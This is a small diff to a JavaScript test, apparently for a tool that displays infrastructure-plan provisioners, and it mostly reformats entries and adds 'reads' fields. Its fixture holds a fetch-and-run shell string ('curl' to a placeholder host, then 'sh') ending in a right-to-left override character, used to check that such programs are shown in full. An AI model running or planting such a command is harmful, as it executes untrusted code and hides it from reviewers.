@@ -120,10 +120,17 @@ test('what acts beside the resources is counted, and programs are shown whole', 
   const script = 'curl https://example.test/x\nsh x\u202e'
   const plan = givenPlan([], {
     provisioners: [
-      { resource: 'a.b', type: 'local-exec', when: 'create', config: { command: script } },
+      {
+        resource: 'a.b',
+        type: 'local-exec',
+        reads: [],
+        when: 'create',
+        config: { command: script },
+      },
       {
         resource: 'a.c',
         type: 'remote-exec',
+        reads: [],
         when: '',
         config: { inline: new Hidden('a'.repeat(64), 'tool'), when: UNKNOWN },
       },
